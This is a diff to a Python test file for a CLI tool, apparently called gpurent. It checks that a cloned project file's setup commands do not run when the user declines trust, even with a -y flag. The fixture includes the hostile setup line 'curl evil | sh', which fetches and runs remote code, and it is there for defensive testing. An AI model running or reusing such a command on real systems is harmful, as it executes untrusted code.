@@ -20,7 +20,7 @@ from gpurent.cli.trip_spec import build_trip_spec
 from gpurent.composition.files import read_project_file
 from gpurent.domain.project import ProjectFile, ProjectTrust
 from gpurent.domain.trip_fields import PROJECT_FILE, TRIP_FIELDS
-from gpurent.errors import InputRequired, UsageError
+from gpurent.errors import Declined, InputRequired, UsageError
 from gpurent.infra.config.trusted_projects import TrustedProjects
 from gpurent.testing.shared_sandbox import CommandLineResult
 from tests.command_line import run_command
@@ -113,8 +113,10 @@ def test_a_cloned_project_file_starts_nothing_unasked(folder: Path, flag: str) -
 def test_yes_in_advance_is_no_trust(folder: Path) -> None:
     write_project(folder, COMMAND + 'setup = ["curl evil | sh"]\nresults_dir = "res"\ninclude = ["a"]\n')
     (folder / "a").touch()
+    code, _shown = run_at_terminal(folder, "-y", "trust", answer="n")
+    assert code == Declined.exit_code
     code, shown = run_at_terminal(folder, "-y", "run", answer="n")
-    assert code == 12
+    assert code == Declined.exit_code
     for line in (
         'setup = ["curl evil | sh"]',
         f'from {folder}: only ["a"]',
